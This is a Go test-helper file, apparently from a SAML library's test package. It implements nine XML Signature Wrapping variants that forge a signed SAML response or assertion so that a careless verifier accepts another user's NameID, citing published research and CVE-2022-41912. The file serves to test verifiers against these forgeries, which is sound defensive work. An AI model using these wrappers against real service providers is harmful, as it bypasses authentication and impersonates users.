package samltest

import (
	"fmt"

	"github.com/beevik/etree"
)

// Wraps is the number of variants of [Wrap].
const Wraps = 9

// Wrap moves the parts of a signed response, so that the signature still covers the signed
// content, but a careless reader finds another user (Somorovsky et al., "On Breaking SAML",
// 2012). Variants 1 and 2 require a signed response, 3 to 8 a signed assertion; 9 adds an
// unsigned assertion after the signed one (CVE-2022-41912). The NameID becomes evil.
func Wrap(doc *etree.Document, way int, evil string) {
	root := doc.Root()
	if way <= 2 {
		wrapResponse(doc, way, evil)
		return
	}
	good := child(root, "Assertion")
	forged := forge(good, evil)
	switch way {
	case 3: // the forged one in front
		root.InsertChildAt(good.Index(), withoutSignature(forged))
	case 4: // the valid one inside the forged one
		put(root, good, withoutSignature(forged))
		forged.AddChild(good)
	case 5: // the forged one contains the signature, and the valid one is at the end
		put(root, good, forged)
		root.AddChild(withoutSignature(good))
	case 6: // the valid one in the signature of the forged one
		put(root, good, forged)
		child(forged, "Signature").AddChild(withoutSignature(good))
	case 7: // the forged one in Extensions
		extensions := &etree.Element{Space: root.Space, Tag: "Extensions"}
		extensions.AddChild(withoutSignature(forged))
		root.InsertChildAt(good.Index(), extensions)
	case 8: // the valid one in an Object of the signature
		put(root, good, forged)
		signature := child(forged, "Signature")
		object := &etree.Element{Space: signature.Space, Tag: "Object"}
		object.AddChild(withoutSignature(good))
		signature.AddChild(object)
	case 9: // the forged one behind
		root.AddChild(withoutSignature(forged))
	default:
		panic(fmt.Sprintf("no way %d of wrapping", way))
	}
}

// wrapResponse puts the valid response into or next to the signature of a forged one.
func wrapResponse(doc *etree.Document, way int, evil string) {
	good := doc.Root()
	forged := good.Copy()
	forged.CreateAttr("ID", NewID())
	rename(forged, evil)
	if assertion := child(forged, "Assertion"); assertion != nil {
		assertion.CreateAttr("ID", NewID())
		if signature := child(assertion, "Signature"); signature != nil {
			assertion.RemoveChild(signature)
		}
	}
	signature := child(forged, "Signature")
	inner := withoutSignature(good.Copy())
	if way == 1 {
		signature.AddChild(inner)
	} else {
		forged.InsertChildAt(signature.Index(), inner)
	}
	doc.SetRoot(forged)
}

// forge returns a copy of the assertion, with its signature, for another user.
func forge(good *etree.Element, evil string) *etree.Element {
	forged := good.Copy()
	forged.CreateAttr("ID", NewID())
	rename(forged, evil)
	return forged
}

func rename(e *etree.Element, evil string) {
	for _, nameID := range e.FindElements(".//NameID") {
		nameID.SetText(evil)
	}
}

func child(e *etree.Element, tag string) *etree.Element {
	for _, c := range e.ChildElements() {
		if c.Tag == tag {
			return c
		}
	}
	return nil
}

func withoutSignature(e *etree.Element) *etree.Element {
	if signature := child(e, "Signature"); signature != nil {
		e.RemoveChild(signature)
	}
	return e
}

// put replaces an element with a new one.
func put(parent, old, replacement *etree.Element) {
	at := old.Index()
	parent.RemoveChild(old)
	parent.InsertChildAt(at, replacement)
}
